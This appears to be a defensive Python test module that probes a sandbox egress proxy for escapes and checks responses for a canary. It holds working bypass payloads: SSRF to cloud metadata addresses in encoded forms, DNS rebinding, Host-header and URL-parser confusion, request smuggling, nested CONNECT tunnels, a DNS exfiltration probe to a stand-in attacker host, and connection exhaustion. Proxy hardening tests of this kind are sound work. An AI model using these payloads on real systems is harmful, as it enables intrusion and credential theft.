"""The way out of a cell that has one rule: `allowed.test`, on one port. Everything else is forbidden.

The names are given by a resolver that lies as an attacker's would. Forbidden servers answer with
the suite's canary, so whoever sees it has been somewhere.
"""

from __future__ import annotations

import contextlib
import os
import socket
import time
import urllib.parse
import urllib.request

from hostile_kit import probe, refuse_real_network

_METADATA = "169.254.169.254"


def _open() -> socket.socket:
    refuse_real_network()
    proxy = os.environ.get("HTTP_PROXY") or os.environ.get("http_proxy")
    if not proxy:
        msg = "there is no proxy"
        raise ValueError(msg)
    where = urllib.parse.urlsplit(proxy)
    return socket.create_connection((where.hostname, where.port), timeout=4)


def _all(stream: socket.socket) -> bytes:
    pieces = []
    with contextlib.suppress(OSError):
        while chunk := stream.recv(65536):
            pieces.append(chunk)
    return b"".join(pieces)


def _say(scene, *texts: str) -> str | None:  # noqa: ANN001
    """Send it all to the proxy; finding the canary in what comes back is a finding."""
    with _open() as stream:
        for text in texts:
            stream.sendall(text.encode("utf-8", "surrogateescape"))
        with contextlib.suppress(OSError):
            stream.settimeout(3)
        answer = _all(stream)
    return _seen(scene, answer)


def _seen(scene, answer: bytes) -> str | None:  # noqa: ANN001
    at = answer.find(scene.canary.encode())
    if at >= 0:
        return f"a forbidden server answered: {answer[at : at + 80]!r}"
    if not answer:
        raise ConnectionError("no answer")
    raise PermissionError(1, answer.split(b"\r\n", maxsplit=1)[0][:60].decode(errors="replace"))


def _get(scene, host: str, port: int = 80, extra: str = "") -> str | None:  # noqa: ANN001
    where = f"{host}:{port}"
    return _say(scene, f"GET http://{where}/ HTTP/1.1\r\nHost: {where}\r\n{extra}Connection: close\r\n\r\n")


def _connect(scene, host: str, port: int = 80) -> str | None:  # noqa: ANN001
    with _open() as stream:
        stream.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
        head = stream.recv(4096)
        if b" 200" not in head.split(b"\r\n", maxsplit=1)[0]:
            return _seen(scene, head)
        stream.sendall(b"GET / HTTP/1.0\r\n\r\n")
        return _seen(scene, head + _all(stream))


def _destination(name: str, about: str, technique: str, host: str, port: int) -> None:
    def run(scene) -> str | None:  # noqa: ANN001
        reached = None
        for way in (_get, _connect):
            try:
                reached = reached or way(scene, host, port)
            except OSError as error:
                last = error
        if reached:
            return reached
        raise last

    run.__name__, run.__module__, run.__doc__ = name, __name__, about
    probe(technique, mode="egress", seconds=15)(run)


for _name, _about, _technique, _host, _port in (
    ("metadata", "The metadata service answers, by CONNECT or by a plain request.", "SSRF", _METADATA, 80),
    ("metadata_decimal", "It answers when written as one number.", "2852039166", "2852039166", 80),
    ("metadata_octal", "It answers when written in octal.", "0251.0376.0251.0376", "0251.0376.0251.0376", 80),
    ("metadata_hex", "It answers when written in hexadecimal.", "0xa9.0xfe.0xa9.0xfe", "0xa9.0xfe.0xa9.0xfe", 80),
    ("metadata_short", "It answers when written with fewer parts.", "169.254.43518", "169.254.43518", 80),
    ("metadata_mapped", "It answers as an IPv4-mapped address.", "::ffff:169.254.169.254", "[::ffff:a9fe:a9fe]", 80),
    ("metadata_nat64", "It answers behind NAT64's prefix.", "64:ff9b::/96", "[64:ff9b::a9fe:a9fe]", 80),
    ("metadata_6to4", "It answers behind 6to4's prefix.", "2002::/16", "[2002:a9fe:a9fe::1]", 80),
    ("metadata_ipv6", "The metadata service answers on IPv6.", "fd00:ec2::254", "[fd00:ec2::254]", 80),
    ("metadata_azure", "Azure's platform address answers.", "168.63.129.16 looks public", "168.63.129.16", 80),
    ("metadata_alibaba", "Alibaba's metadata answers.", "100.100.100.200", "100.100.100.200", 80),
    ("wide_dots", "It answers when written with wide dots.", "169。254。169。254", "169。254。169。254", 80),
    ("percent_dots", "It answers when its dots are percent signs.", "169%2e254%2e169%2e254", "169%2e254%2e169%2e254", 80),
    ("private_10", "A private network answers.", "RFC 1918", "10.0.0.1", 80),
    ("private_172", "The engine's bridge answers.", "RFC 1918, docker0", "172.17.0.1", 80),
    ("private_192", "A home or office network answers.", "RFC 1918", "192.168.1.1", 80),
    ("carrier_grade", "A carrier's network answers.", "RFC 6598", "100.64.0.1", 80),
    ("unique_local", "A private IPv6 network answers.", "RFC 4193", "[fd12:3456:789a::1]", 80),
    ("postgres", "Postgres beside the proxy answers.", "the control plane's database", "127.0.0.1", 5432),
    ("nats", "NATS beside the proxy answers.", "the control plane's bus", "localhost", 4222),
    ("flowcell_api", "Flowcell's API beside the proxy answers.", "the control plane's API", "127.0.0.1", 7860),
    ("docker_tcp", "Docker's API beside the proxy answers.", "port 2375", "[::1]", 2375),
    ("any_address", "The unspecified address leads to the proxy's own host.", "0.0.0.0", "0.0.0.0", 5432),
    ("another_port", "Another port of the allowed host answers.", "rules name ports", "allowed.test", 80),
    ("another_host", "A host of the internet that no rule names answers.", "deny by default", "93.184.215.14", 80),
    ("longer_name", "A name that ends like the allowed one answers.", "suffix confusion", "xallowed.test", 8080),
    ("deeper_name", "A name that begins like the allowed one answers.", "prefix confusion", "allowed.test.evil.test", 8080),
    ("rebinding", "A name that changes its mind answers.", "DNS rebinding", "rebind.test", 8080),
    ("name_of_private", "An allowed name of a private address answers.", "DNS rebinding", "private.test", 8080),
    ("name_of_loopback", "An allowed name of loopback answers.", "DNS rebinding", "loopback.test", 8080),
    ("name_of_metadata", "An allowed name of the metadata service answers.", "DNS rebinding", "metadata.test", 8080),
    ("name_of_mapped", "An allowed name of a mapped address answers.", "DNS rebinding", "mapped.test", 8080),
    ("name_of_nat64", "An allowed name of a NAT64 address answers.", "DNS rebinding", "nat64.test", 8080),
    ("name_of_azure", "An allowed name of Azure's platform answers.", "DNS rebinding", "azure.test", 8080),
    ("name_of_both", "An allowed name of a good and a bad address answers.", "DNS rebinding", "mixed.test", 8080),
):
    _destination(_name, _about, _technique, _host, _port)


@probe("Host header against request target", mode="egress")
def other_host_header(scene) -> str | None:  # noqa: ANN001
    """The server is chosen by the Host header, not by the target that was checked."""
    return _say(scene, f"GET http://{scene.allowed}/ HTTP/1.1\r\nHost: {_METADATA}\r\nConnection: close\r\n\r\n")


@probe("Host header against CONNECT target", mode="egress")
def other_host_in_connect(scene) -> str | None:  # noqa: ANN001
    """The tunnel leads to the Host header."""
    head = f"CONNECT {scene.allowed} HTTP/1.1\r\nHost: {_METADATA}:80\r\n\r\n"
    return _say(scene, head, "GET / HTTP/1.0\r\n\r\n")


@probe("two Host headers", mode="egress")
def two_host_headers(scene) -> str | None:  # noqa: ANN001
    """The second Host header chooses the server."""
    head = f"GET http://{scene.allowed}/ HTTP/1.1\r\nHost: {scene.allowed}\r\nHost: {_METADATA}\r\n"
    return _say(scene, f"{head}Connection: close\r\n\r\n")


@probe("parsers differ about userinfo: http://allowed@forbidden/", mode="egress")
def userinfo(scene) -> str | None:  # noqa: ANN001
    """The allowed host is only the user's name."""
    head = f"GET http://{scene.allowed}@{_METADATA}/ HTTP/1.1\r\nHost: {scene.allowed}\r\nConnection: close\r\n\r\n"
    return _say(scene, head)


@probe("parsers differ about backslashes and fragments", mode="egress")
def backslash(scene) -> str | None:  # noqa: ANN001
    """The forbidden host stands before a backslash or a fragment."""
    found = None
    for target in (f"http://{_METADATA}:80\\@{scene.allowed}/", f"http://{_METADATA}:80#@{scene.allowed}/"):
        with contextlib.suppress(OSError):
            found = found or _say(scene, f"GET {target} HTTP/1.1\r\nHost: {scene.allowed}\r\nConnection: close\r\n\r\n")
    return found


@probe("request smuggling, CL.TE and TE.CL", mode="egress", seconds=15)
def smuggled_request(scene) -> str | None:  # noqa: ANN001
    """A request hidden in another's body is carried out."""
    hidden = f"GET http://{_METADATA}:80/ HTTP/1.1\r\nHost: {_METADATA}\r\nConnection: close\r\n\r\n"
    found = None
    for headers in (
        f"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}",
        f"Transfer-Encoding: xchunked\r\nContent-Length: 0\r\n\r\n{hidden}",
        f"Content-Length: 0\r\nContent-Length: {len(hidden)}\r\n\r\n{hidden}",
    ):
        with contextlib.suppress(OSError):
            head = f"POST http://{scene.allowed}/ HTTP/1.1\r\nHost: {scene.allowed}\r\n"
            found = found or _say(scene, head + headers)
    return found


@probe("keep-alive: only the first request of a connection is checked", mode="egress")
def second_request(scene) -> str | None:  # noqa: ANN001
    """A second request of the same connection goes elsewhere."""
    first = f"GET http://{scene.allowed}/ HTTP/1.1\r\nHost: {scene.allowed}\r\n\r\n"
    second = f"GET http://{_METADATA}:80/ HTTP/1.1\r\nHost: {_METADATA}\r\nConnection: close\r\n\r\n"
    return _say(scene, first, second)


@probe("a tunnel in the tunnel", mode="egress")
def connect_in_a_tunnel(scene) -> str | None:  # noqa: ANN001
    """The proxy obeys a CONNECT inside of a tunnel."""
    with _open() as stream:
        stream.sendall(f"CONNECT {scene.allowed} HTTP/1.1\r\nHost: {scene.allowed}\r\n\r\n".encode())
        stream.recv(4096)
        stream.sendall(f"CONNECT {_METADATA}:80 HTTP/1.1\r\nHost: {_METADATA}\r\n\r\nGET / HTTP/1.0\r\n\r\n".encode())
        stream.settimeout(2)
        return _seen(scene, _all(stream))


@probe("SSRF by redirect", mode="egress")
def redirect(scene) -> str | None:  # noqa: ANN001
    """A redirect of the allowed host to the metadata service is followed."""
    refuse_real_network()
    url = f"http://{scene.allowed}/redirect?to=http://{_METADATA}/"
    with urllib.request.urlopen(url, timeout=5) as answer:
        return _seen(scene, answer.read(4096))


@probe("SSRF by redirect, to a name", mode="egress")
def redirect_to_a_name(scene) -> str | None:  # noqa: ANN001
    """A redirect of the allowed host to a name of a private address is followed."""
    refuse_real_network()
    url = f"http://{scene.allowed}/redirect?to=http://private.test:8080/"
    with urllib.request.urlopen(url, timeout=5) as answer:
        return _seen(scene, answer.read(4096))


@probe("other schemes: ftp, gopher, file", mode="egress")
def other_schemes(scene) -> str | None:  # noqa: ANN001
    """The proxy carries out another scheme than http."""
    found = None
    for scheme in ("ftp", "gopher", "https", "ws"):
        with contextlib.suppress(OSError):
            head = f"GET {scheme}://{_METADATA}:80/ HTTP/1.1\r\nHost: {_METADATA}\r\nConnection: close\r\n\r\n"
            found = found or _say(scene, head)
    return found


@probe("SSRF by origin-form: the proxy is taken for a server", mode="egress")
def origin_form(scene) -> str | None:  # noqa: ANN001
    """A request without a host in its target goes where the Host header says."""
    return _say(scene, f"GET / HTTP/1.1\r\nHost: {_METADATA}\r\nConnection: close\r\n\r\n")


@probe("port overflow: 65536 + 80", mode="egress")
def port_overflow(scene) -> str | None:  # noqa: ANN001
    """A port beyond 65535 is cut to one below."""
    return _connect(scene, _METADATA, 65536 + 80)


@probe("line breaks in the target", mode="egress")
def line_breaks(scene) -> str | None:  # noqa: ANN001
    """A bare line feed in the target ends the request line early."""
    head = f"GET http://{scene.allowed}/\nHost: {_METADATA}\n\nGET http://{_METADATA}:80/ HTTP/1.1\r\n"
    return _say(scene, f"{head}Host: {_METADATA}\r\nConnection: close\r\n\r\n")


@probe("DNS tunnelling through the proxy's resolver", mode="egress")
def leaks_by_names(scene) -> str | None:  # noqa: ANN001
    """A name that no rule allows is given to the resolver, and with it whatever it spells."""
    name = f"stolen-{os.getpid()}.attacker.test"
    for way in (_get, _connect):
        with contextlib.suppress(OSError):
            way(scene, name, 8080)
    with _open() as stream:
        head = f"GET http://{scene.allowed}/asked HTTP/1.1\r\nHost: {scene.allowed}\r\nConnection: close\r\n\r\n"
        stream.sendall(head.encode())
        answer = _all(stream)
    if b"asked:" not in answer:
        msg = f"the allowed server did not answer: {answer[:80]!r}"
        raise ValueError(msg)
    return f"the resolver was asked for {name}" if name.encode() in answer else None


@probe("connections as a way to exhaust the host's ports and memory", mode="egress", seconds=20)
def too_many_connections(scene) -> str | None:  # noqa: ANN001
    """More connections than allowed are open at once."""
    most, streams = scene.limits["connections"], []
    try:
        for _ in range(most * 2):
            stream = _open()
            streams.append(stream)
            stream.sendall(f"CONNECT {scene.allowed} HTTP/1.1\r\nHost: {scene.allowed}\r\n\r\n".encode())
        time.sleep(1.5)
        answered = 0
        for stream in streams:
            stream.setblocking(False)
            with contextlib.suppress(OSError):
                answered += b" 200" in stream.recv(4096)
    finally:
        for stream in streams:
            stream.close()
    return f"{answered} tunnels at once" if answered > most else None


@probe("what a rule allows works: the proxy is there, and the probes above mean something", mode="egress",
       no_control="it is itself the control: a finding would be that nothing works")  # fmt: skip
def allowed_host_answers(scene) -> str | None:  # noqa: ANN001
    """The allowed host does not answer (then every other probe of this group would be hollow)."""
    with _open() as stream:
        head = f"GET http://{scene.allowed}/ HTTP/1.1\r\nHost: {scene.allowed}\r\nConnection: close\r\n\r\n"
        stream.sendall(head.encode())
        answer = _all(stream)
    return None if b"the allowed server" in answer else f"it answered {answer[:80]!r}"
